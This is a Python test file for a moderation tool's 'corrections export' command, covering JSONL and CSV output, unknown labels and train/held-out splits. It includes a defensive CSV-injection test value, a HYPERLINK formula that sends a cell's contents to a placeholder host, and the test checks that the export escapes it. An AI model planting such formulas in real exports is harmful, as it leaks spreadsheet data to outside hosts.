"""``damai corrections export``: dismissed flags as training data. JSONL by default keeps the
exact text and leaves labels nobody judged out (unknown, never 0); CSV is for spreadsheets, with
formula cells escaped (issue #10)."""

from __future__ import annotations

import csv
from pathlib import Path

import orjson
import pytest

from damai.storage import open_store
from tests.conftest import run_cli
from tests.integration.web_helpers import fill_posts

FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik") +62 @admin'


@pytest.fixture
def corrected(tmp_path: Path, db_url: str) -> str:
    fill_posts(tmp_path, db_url, texts=[FORMULA, "Banjir di Bekasi"])
    store = open_store(db_url)
    flagged = store.posts.recent("flagged", 10)
    hostile = next(s for s in flagged if s.post.text == FORMULA)
    store.triage.add_corrections(hostile.id, dict.fromkeys(hostile.post.flags, 0), "sari")
    flood = next(s for s in flagged if "Banjir" in s.post.text)
    store.triage.add_corrections(flood.id, {"disaster": 1}, "sari")
    store.close()
    return db_url


def test_jsonl_is_the_default_and_keeps_exact_text_and_unknown_labels(
        corrected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "koreksi.jsonl"
    code, _, err = run_cli(capsys, "corrections", "export", "--out", str(out), "--db", corrected)
    assert code == 0
    assert "--labels disaster=disaster,hate_speech=hate_speech,radicalism=radicalism" in (
        err.replace("\n", ""))
    rows = [orjson.loads(line) for line in out.read_bytes().splitlines()]
    assert rows == [{"text": FORMULA, "radicalism": 0, "hate_speech": 0},
                    {"text": "Banjir di Bekasi", "disaster": 1}]


def test_csv_escapes_formulas_and_leaves_unknown_labels_empty(
        corrected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "koreksi.csv"
    code, _, _ = run_cli(capsys, "corrections", "export", "--format", "csv", "--out", str(out),
                         "--db", corrected)
    assert code == 0
    with out.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [(r["text"], r["disaster"], r["hate_speech"], r["radicalism"]) for r in rows] == [
        ("'" + FORMULA, "", "0", "0"), ("Banjir di Bekasi", "1", "", "")]


def test_an_unknown_format_is_refused(corrected: str, tmp_path: Path,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run_cli(capsys, "corrections", "export", "--format", "xlsx", "--out",
                           str(tmp_path / "k.xlsx"), "--db", corrected)
    assert code == 2 and "jsonl" in err


def test_the_training_and_heldout_parts_are_exported_apart(
        db_url: str, tiny_bundled: Path, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Issue #9: a model trained outside Damai on ``--part train`` never sees a held-out text."""
    from tests.integration.model_helpers import label_all

    store = open_store(db_url)
    total = label_all(store)
    store.close()
    texts: dict[str, set[str]] = {}
    for part in ("train", "heldout"):
        out = tmp_path / f"{part}.jsonl"
        code, _, err = run_cli(capsys, "corrections", "export", "--part", part, "--out",
                               str(out), "--db", db_url)
        assert code == 0, err
        texts[part] = {orjson.loads(line)["text"] for line in out.read_bytes().splitlines()}
    assert texts["train"] and texts["heldout"] and not texts["train"] & texts["heldout"]
    assert len(texts["train"]) + len(texts["heldout"]) == total
    code, _, err = run_cli(capsys, "corrections", "export", "--part", "semua", "--out",
                           str(tmp_path / "x.jsonl"), "--db", db_url)
    assert code == 2 and "--part" in err
